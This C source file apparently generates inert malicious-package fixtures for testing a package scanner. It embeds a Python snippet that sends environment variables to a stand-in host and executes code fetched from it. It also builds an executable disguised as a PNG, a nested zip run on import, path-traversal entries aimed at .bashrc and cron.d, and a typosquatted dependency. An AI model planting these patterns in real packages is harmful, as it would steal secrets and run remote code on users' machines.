/* SPDX-License-Identifier: Apache-2.0 */
/*
 * hostile_archive - inert packages whose archive or name is what is wrong.
 * Takes: a package.  Gives: its members and quirks.
 * Runs in: simindex.
 */
#include <stdlib.h>
#include <string.h>

#include "hostile.h"
#include "ordinary.h"
#include "pack.h"

#define ELF_BYTES 20000

static const char thief[] = INERT
    "import os\nimport urllib.request\n\n"
    "urllib.request.urlopen(\"http://in.example.invalid/?\" +\n"
    "    repr(dict(os.environ)))\n"
    "exec(urllib.request.urlopen(\"http://in.example.invalid/2\").read())\n";

/* Honest, but for what the caller adds. */
static void
honest(struct package *p, struct chance *c)
{
	char	*module = name_file(p->name);

	ordinary_dress(p, c);
	hostile_module(p, "from .core import load\n\n__all__ = [\"load\"]\n");
	ordinary_module(p, module, "core.py", c);
	free(module);
}

/* The header of a program, and noise. */
void
hostile_elf(struct package *p, struct chance *c)
{
	static const unsigned char	 head[64] = { 0x7f, 'E', 'L', 'F', 2, 1,
	    1, [16] = 2, [18] = 62, [20] = 1, [24] = 0x78, [26] = 0x40,
	    [32] = 64, [52] = 64, [54] = 56, [56] = 1 };
	unsigned char	*elf = must_alloc(ELF_BYTES);
	char		*path = hostile_path(p, "assets/logo.png");

	honest(p, c);
	chance_fill(c, elf, ELF_BYTES);
	memcpy(elf, head, sizeof(head));
	memcpy(elf + 64, "inert test fixture, no code inside", 35);
	package_add(p, IN_BOTH, path, elf, ELF_BYTES);
	package_text(p, IN_BOTH, "imageassets_py/start.py", INERT
	    "import os\nimport subprocess\n\n"
	    "LOGO = os.path.join(os.path.dirname(__file__), \"assets\", "
	    "\"logo.png\")\nos.chmod(LOGO, 0o755)\n"
	    "subprocess.Popen([LOGO])\n");
	free(path);
	free(elf);
}

void
hostile_nested(struct package *p, struct chance *c)
{
	struct zip	 zip = { 0 };
	struct text	 t = { 0 };
	char		*path = hostile_path(p, "data/bundle.bin");

	ordinary_dress(p, c);
	zip_put(&zip, "__main__.py", "__main__.py", thief, sizeof(thief) - 1);
	zip_end(&zip, &t);
	hostile_module(p, INERT
	    "import os\nimport runpy\n\n"
	    "runpy.run_path(os.path.join(os.path.dirname(__file__), "
	    "\"data\", \"bundle.bin\"))\n");
	package_add(p, IN_BOTH, path, t.s, t.len);
	free(path);
	text_free(&t);
}

void
hostile_views(struct package *p, struct chance *c)
{
	(void)c;
	hostile_poor(p, "two views");
	hostile_module(p, thief);
	p->quirks |= QUIRK_VIEWS | QUIRK_NO_SDIST;
}

void
hostile_record(struct package *p, struct chance *c)
{
	honest(p, c);
	p->quirks |= QUIRK_RECORD;
}

void
hostile_traversal(struct package *p, struct chance *c)
{
	struct member	*m;

	honest(p, c);
	m = package_add(p, IN_SDIST,
	    "../../../../../../tmp/inert/.bashrc", INERT, sizeof(INERT) - 1);
	m->raw = true;
	m = package_add(p, IN_SDIST, "/tmp/inert/cron.d/inert", INERT,
	    sizeof(INERT) - 1);
	m->raw = true;
	m = package_add(p, IN_SDIST, "out", "", 0);
	m->link = must_copy("/etc");
	package_text(p, IN_SDIST, "out/cron.d/inert", INERT);
}

void
hostile_requires(struct package *p, struct chance *c)
{
	honest(p, c);
	package_require(p, "reqeusts>=2.0");
}

void
hostile_late_wheel(struct package *p, struct chance *c)
{
	honest(p, c);
	package_text(p, IN_WHEEL, "slowrelease/_speedups.py", thief);
	package_text(p, IN_WHEEL, "slowrelease/fast.py",
	    "from . import _speedups  # noqa\n");
	p->quirks |= QUIRK_LATE_WHEEL;
}

void
hostile_changed(struct package *p, struct chance *c)
{
	honest(p, c);
}

void
hostile_name_only(struct package *p, struct chance *c)
{
	honest(p, c);
}
